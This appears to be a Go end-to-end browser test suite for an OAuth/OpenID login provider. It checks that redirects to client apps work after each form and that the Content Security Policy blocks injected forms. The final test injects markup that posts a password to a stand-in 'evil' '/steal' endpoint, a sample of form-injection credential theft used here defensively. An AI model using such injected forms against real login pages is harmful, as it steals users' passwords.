package e2e

import (
	"fmt"
	"testing"

	"github.com/chromedp/chromedp"
)

// chains are addresses of callbacks and what the browser shows after the
// application has redirected it further.
func chains(s *site) map[string]string {
	s.redirects("/far", s.at("second", "/hop"))
	s.redirects("/hop", s.at("third", "/end"))
	s.page("/end", "You have arrived.")
	s.redirects("/native", "com.example.app://done")
	return map[string]string{
		"a callback that redirects across three sites": s.at("app", "/far"),
		"a callback that redirects to an app":          s.at("app", "/native"),
	}
}

// arrives waits until the callback has received the answer, and the browser has
// left the page with the form. Chromium applies the form-action of a page to
// every redirect that follows a form (CSP §6.4.1).
func (b *browser) arrives(s *site, callback, field string) {
	b.t.Helper()
	if got := s.waitFor(callback); got.form.Get(field) == "" {
		b.t.Errorf("the application received %v without %s", got.form, field)
	}
	if callback == s.at("app", "/native") {
		b.says("If you are not redirected automatically") // there is no such app here
	} else {
		b.says("You have arrived.")
	}
}

// TestRedirectsOfTheApplicationWorkAfterEveryForm presses every button that can
// lead to an application.
func TestRedirectsOfTheApplicationWorkAfterEveryForm(t *testing.T) {
	t.Parallel()
	p, s := startProvider(t, "--sign-up"), startSite(t)
	callbacks := chains(s)
	for _, scripts := range []bool{true, false} {
		b := newBrowser(t, scripts)
		for name, callback := range callbacks {
			if callback == s.at("app", "/native") && scripts {
				continue // the same page
			}
			t.Run(fmt.Sprintf("%s, scripts %v", name, scripts), func(t *testing.T) {
				b := *b
				b.t = t
				b.pressEveryButton(p, s, callback, fmt.Sprintf("guest-%v-%d", scripts, len(callback)))
			})
		}
	}
}

func (b *browser) pressEveryButton(p *provider, s *site, callback, newcomer string) {
	t := b.t
	client := p.app(callback, "--post-logout-redirect-uri", callback)
	trusted := p.app(callback, "--skip-authorization")

	// A link to an app opens a dialog, which blocks the tab.
	t.Log("Cancel and Authorize")
	b = b.tab()
	b.open(p.authorize(client))
	b.logIn(personName, personPassword)
	b.clickThrough("button[value=cancel]")
	b.arrives(s, callback, "error")
	b = b.tab()
	b.open(p.authorize(client))
	b.click("#allow")
	b.clickThrough("button[value=authorize]")
	b.arrives(s, callback, "code")

	t.Log("the choice of an account")
	b = b.tab()
	b.open(p.authorize(client, "prompt", "select_account"))
	b.clickThrough("button[value=continue]")
	b.arrives(s, callback, "code")

	t.Log("Log out")
	b = b.tab()
	b.open(p.issuer + "/logout/?state=s&client_id=" + client + "&post_logout_redirect_uri=" + callback)
	b.clickThrough("main button.primary")
	b.arrives(s, callback, "state")

	t.Log("Log in, where the permission is remembered")
	b = b.tab()
	b.open(p.authorize(client))
	b.logIn(personName, personPassword)
	b.arrives(s, callback, "code")

	t.Log("form_post")
	b = b.tab()
	b.open(p.authorize(client, "response_mode", "form_post", "prompt", "consent"))
	b.click("#allow")
	b.clickThrough("button[value=authorize]")
	if !b.scripts {
		b.says("If you are not redirected automatically")
		b.click("#form-post button")
	}
	b.arrives(s, callback, "code")

	t.Log("Create account, where the application skips consent")
	b = b.tab()
	b.open(p.authorize(trusted, "prompt", "create"))
	for field, value := range map[string]string{"#username": newcomer, "#name": "New", "#password": personPassword, "#password_again": personPassword} {
		b.typed(field, value)
	}
	b.clickThrough("form button.primary")
	b.arrives(s, callback, "code")
	b = b.tab()
	b.open(p.issuer + "/logout/")
	b.clickThrough("main button.primary")
	b.says("You are logged out")
}

// TestInjectedFormCannotSendThePasswordElsewhere adds a form to the pages on
// which people type their password, as markup that an attacker injected would.
func TestInjectedFormCannotSendThePasswordElsewhere(t *testing.T) {
	t.Parallel()
	p, s := startProvider(t, "--sign-up"), startSite(t)
	s.page("/cb", "The callback.")
	s.page("/steal", "Thank you.")
	client := p.app(s.at("app", "/cb"))
	b := newBrowser(t, true)
	for _, page := range []string{p.authorize(client), p.authorize(client, "prompt", "create"), p.issuer + "/login/"} {
		for _, target := range []string{s.at("evil", "/steal"), s.at("app", "/cb")} {
			b.open(page)
			b.see("#password")
			blocked, err := chromedp.Run(b.ctx, chromedp.Evaluate[string](fmt.Sprintf(`new Promise((resolve) => {
				document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true })
				document.body.insertAdjacentHTML('beforeend', '<form id=evil method=post action=%q><input name=password value=secret></form>')
				document.querySelector('#evil').submit()
			})`, target), chromedp.EvalAwaitPromise))
			if err != nil || blocked != "form-action" {
				t.Errorf("a form from %s to %s: %q %v", page, target, blocked, err)
			}
			if got, ok := s.received(target); ok {
				t.Errorf("%s received %v", target, got.form)
			}
		}
	}
}
